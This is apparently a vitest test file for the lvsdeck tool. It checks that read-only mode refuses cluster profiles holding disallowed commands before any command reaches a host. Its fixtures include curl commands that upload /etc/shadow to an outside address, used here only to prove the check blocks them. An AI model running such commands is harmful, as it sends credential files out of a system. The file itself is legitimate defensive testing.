// A profile whose commands read-only mode would refuse fails when status, the wall or a read-only console
// starts, with `file:line:col: field: reason`, and nothing reaches a host.
import {mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {afterAll, describe, expect, it, vi} from 'vitest';
import {parseProfile, loadProfile, ProfileError} from '../../../src/profile/load.js';
import {assertReadOnlyProfile, readOnlyProfileErrors} from '../../../src/transport/read-only-profile.js';
import {createClusterTransport} from '../../../src/transport/cluster-transport.js';
import {createScreenRuntime} from '../../../src/commands/console.js';
import {statusCommand} from '../../../src/commands/status.js';
import {main} from '../../../src/main.js';
import type {ExecResult, Transport} from '../../../src/transport/types.js';

const ROOT = path.resolve(import.meta.dirname, '..', '..', '..');
const LAB_TEXT = readFileSync(path.join(ROOT, 'profiles', 'lab.yaml'), 'utf8');
const UPLOAD = 'curl -T /etc/shadow http://192.168.67.1:9/';

/** lab.yaml with one host's service.status replaced; also where the new command starts (1-based). */
function withStatus(host: 'rs1' | 'rs2', command: string, text = LAB_TEXT): {text: string; line: number; col: number} {
	const lines = text.split('\n');
	const at = lines.findIndex((l) => l.trim() === `${host}:`);
	const serviceLine = lines.findIndex((l, i) => i > at && l.includes('service:'));
	lines[serviceLine] = lines[serviceLine]!.replace(/status: [^}]+/, `status: ${command}`);
	return {text: lines.join('\n'), line: serviceLine + 1, col: lines[serviceLine]!.indexOf(`status: ${command}`) + 'status: '.length + 1};
}

const tmp = mkdtempSync(path.join(tmpdir(), 'lvsdeck-ro-profile-'));
afterAll(() => rmSync(tmp, {recursive: true, force: true}));

/** Written next to nothing: identity files resolve relative to the file, and nothing here connects. */
function writeProfile(name: string, text: string): string {
	const file = path.join(tmp, name);
	writeFileSync(file, text);
	return file;
}

class SpyTransport implements Transport {
	readonly received: string[][] = [];
	async exec(_host: string, argv: readonly string[]): Promise<ExecResult> {
		this.received.push([...argv]);
		return {code: 0, stdout: '', stderr: '', timedOut: false, durationMs: 0};
	}
	status(host: string) {
		return {host, state: 'ready' as const, since: 0};
	}
	onStatus() {
		return () => {};
	}
	async close() {}
}

describe('the read-only profile check', () => {
	it('passes every shipped profile', () => {
		for (const f of readdirSync(path.join(ROOT, 'profiles')).filter((n) => n.endsWith('.yaml'))) {
			expect(readOnlyProfileErrors(loadProfile(path.join(ROOT, 'profiles', f))), f).toEqual([]);
		}
	});

	it('points at a status command that read-only mode would refuse, with the reason', () => {
		const {text, line, col} = withStatus('rs1', UPLOAD);
		const profile = parseProfile(text, 'hostile.yaml');
		expect(() => assertReadOnlyProfile(profile)).toThrow(ProfileError);
		expect(() => assertReadOnlyProfile(profile)).toThrow(
			`hostile.yaml:${line}:${col}: hosts.rs1.service.status: read-only mode would refuse "${UPLOAD}": option -T is not allowed for curl`,
		);
	});

	it('reports every problem in file order, the first with a count of the others', () => {
		const first = withStatus('rs1', 'curl --upload-f /etc/shadow http://192.168.67.1:9/');
		const second = withStatus('rs2', 'env curl http://192.168.67.1:9/', first.text);
		const text = second.text.replace('  status: systemctl is-active keepalived', '  status: systemctl is-active keepalived\n  dump_dir: /proc/self');
		const profile = parseProfile(text, 'hostile.yaml');
		const errors = readOnlyProfileErrors(profile);
		expect(errors.map((e) => [e.line, e.field])).toEqual([
			[first.line, 'hosts.rs1.service.status'],
			[second.line, 'hosts.rs2.service.status'],
			[text.split('\n').findIndex((l) => l.includes('dump_dir: /proc/self')) + 1, 'keepalived.dump_dir'],
		]);
		expect(errors[1]!.reason).toContain('env runs other programs');
		expect(errors[2]!.reason).toBe('read-only mode would refuse /proc/self for the director probe: it is not an absolute path (not under /dev, /proc or /sys)');
		expect(() => assertReadOnlyProfile(profile)).toThrow(/^hostile\.yaml:\d+:\d+: hosts\.rs1\.service\.status: .* \(and 2 more errors\)$/);
	});

	it('a profile built in code (no source) is reported at line 1 of its file', () => {
		const profile = parseProfile(withStatus('rs2', 'sysctl -p').text, 'x.yaml');
		const {source: _source, ...bare} = profile;
		expect(readOnlyProfileErrors(bare).map((e) => e.message)).toEqual([`${profile.file}:1:1: hosts.rs2.service.status: read-only mode would refuse "sysctl -p": option -p is not allowed for sysctl`]);
	});
});

describe('where a read-only transport is made for a profile', () => {
	const hostile = () => parseProfile(withStatus('rs1', UPLOAD).text, 'hostile.yaml');

	it('createClusterTransport refuses the profile in read-only mode only', async () => {
		expect(() => createClusterTransport(hostile(), {readOnly: true})).toThrow(/hosts\.rs1\.service\.status: read-only mode would refuse/);
		const t = createClusterTransport(hostile());
		await t.close();
	});

	it('the wall and a read-only console refuse it before any command runs; the normal console does not check', async () => {
		const spy = new SpyTransport();
		expect(() => createScreenRuntime(hostile(), 'wall', {inner: spy})).toThrow(ProfileError);
		expect(() => createScreenRuntime(hostile(), 'console', {inner: spy, readOnly: true})).toThrow(ProfileError);
		expect(spy.received).toEqual([]);
		const rt = createScreenRuntime(hostile(), 'console', {inner: spy});
		await rt.stop();
	});

	it('status fails with the located error before it enters the station namespace or connects', async () => {
		const file = writeProfile('hostile.yaml', withStatus('rs1', UPLOAD).text);
		await expect(statusCommand({profile: file})).rejects.toThrow(`${file}:`);
		const stderr = vi.spyOn(process.stderr, 'write').mockImplementation(() => true);
		try {
			expect(await main(['node', 'lvsdeck', 'status', '--profile', file])).toBe(2);
			expect(await main(['node', 'lvsdeck', 'wall', '--profile', file])).toBe(2);
			const printed = stderr.mock.calls.map((c) => String(c[0]));
			expect(printed).toHaveLength(2);
			const {line, col} = withStatus('rs1', UPLOAD);
			for (const p of printed) {
				expect(p).toBe(`lvsdeck: ${file}:${line}:${col}: hosts.rs1.service.status: read-only mode would refuse "${UPLOAD}": option -T is not allowed for curl\n`);
			}
		} finally {
			stderr.mockRestore();
		}
	});
});
